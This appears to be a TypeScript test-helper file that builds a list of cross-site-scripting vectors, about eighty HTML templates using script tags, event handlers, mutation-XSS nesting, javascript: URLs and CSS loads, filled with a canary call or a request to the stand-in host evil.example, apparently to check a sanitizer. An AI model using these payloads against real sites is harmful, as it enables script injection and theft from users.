/** Nobody lives there: a request to it is a letter that loaded something by itself. */
export const EVIL = 'http://evil.example';

/**
 * Ways to make a page run or load what a stranger wrote. `RUN` stands for code, `LOAD` for an address on a foreign
 * server; both are told apart for each place a vector is put into.
 */
const TEMPLATES: readonly string[] = [
  '<script>RUN</script>',
  '<script src="LOAD"></script>',
  '<ScRiPt >RUN</sCrIpT >',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<img src=x onerror="RUN">',
  '<img src="LOAD">',
  '<img src=x:x onerror=RUN//',
  '<img src="x` `<script>RUN</script>"` `>',
  '<img srcset="LOAD 1x, LOAD?2 2x">',
  '<picture><source srcset="LOAD"><img alt="x"></picture>',
  '<img src=x onerror\u00a0=RUN>',
  '<img/src="x"/onerror="RUN">',
  '<svg onload="RUN"></svg>',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="LOAD"/></svg>',
  '<svg><image href="LOAD"/></svg>',
  '<svg><use href="LOAD#x"/></svg>',
  '<svg><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>',
  '<svg><a xlink:href="javascript:RUN"><text y="20">x</text></a></svg>',
  '<svg><style><img src=x onerror="RUN"></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=RUN src=x>"></textarea>',
  '<math href="javascript:RUN">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>',
  '<title><img title="</title><img src=x onerror=RUN>"></title>',
  '<textarea><img title="</textarea><img src=x onerror=RUN>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
  '<template><img src=x onerror="RUN"></template>',
  '<template shadowrootmode="open"><img src=x onerror="RUN"></template>',
  '<div><template shadowrootmode="open"><script>RUN</script></template></div>',
  '<!--><img src=x onerror="RUN">-->',
  '<!-- --!><img src=x onerror="RUN"> -->',
  '<![CDATA[<img src=x onerror="RUN">]]>',
  '<?xml version="1.0"?><img src=x onerror="RUN">',
  '<body onload="RUN">',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="LOAD"></iframe>',
  '<frameset><frame src="LOAD"></frameset>',
  '<object data="LOAD"></object>',
  '<embed src="LOAD">',
  '<object data="data:text/html,<script>parent.RUN</script>"></object>',
  '<video src="LOAD" autoplay></video>',
  '<video poster="LOAD"></video>',
  '<video><source src=x onerror="RUN"></video>',
  '<audio src="LOAD" autoplay onerror="RUN"></audio>',
  '<input type="image" src="LOAD" onerror="RUN">',
  '<input autofocus onfocus="RUN">',
  '<select autofocus onfocus="RUN"></select>',
  '<a href="x" autofocus tabindex="0" onfocus="RUN">x</a>',
  '<details open ontoggle="RUN"><summary>x</summary></details>',
  '<marquee onstart="RUN">x</marquee>',
  '<link rel="stylesheet" href="LOAD">',
  '<link rel="prefetch" href="LOAD"><link rel="preload" as="image" href="LOAD?3">',
  '<meta http-equiv="refresh" content="0;url=LOAD">',
  '<base href="LOAD/"><img src="relative.png">',
  '<style>@import "LOAD";</style>',
  '<style>body{background:url(LOAD)}</style>',
  '<div style="background-image:url(LOAD)">x</div>',
  '<div style="background:url(&quot;LOAD&quot;);list-style:url(LOAD?4)">x</div>',
  '<div style="width:100px;animation-name:x" onanimationstart="RUN">x</div><style>@keyframes x{}</style>',
  '<table background="LOAD"><tr><td background="LOAD?5">x</td></tr></table>',
  '<p><a href="javascript:RUN">x</a></p>',
  '<a href="  java\tscript:RUN">x</a>',
  '<a href="&#106;avascript&colon;RUN">x</a>',
  '<a href="data:text/html,<script>RUN</script>">x</a>',
  '<a href="vbscript:RUN">x</a>',
  '<a href="//evil.example/x" ping="LOAD">x</a>',
  '"><img src=x onerror="RUN">',
  "'><img src=x onerror='RUN'>",
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</style><img src=x onerror="RUN">',
  '" onmouseover="RUN" autofocus onfocus="RUN" x="',
  '[x](javascript:RUN) ![x](LOAD)',
  '{{constructor.constructor("RUN")()}}${RUN}<%= RUN %>',
  '\u2028<img src=x onerror="RUN">\u2029',
  '<x contenteditable onblur="RUN" onfocus="RUN" autofocus tabindex="1">x',
];

/** One vector for one place: the canary is told `name`, a load asks for it. */
export const vectorsFor = (place: string): readonly { readonly name: string; readonly markup: string }[] =>
  TEMPLATES.map((template, index) => {
    const name = `${place}-${index}`;
    const markup = template
      .replaceAll('RUN', `window.__xss&&__xss('${name}')`)
      .replaceAll('LOAD', `${EVIL}/${name}`);
    return { name, markup };
  });

export const VECTORS = TEMPLATES.length;
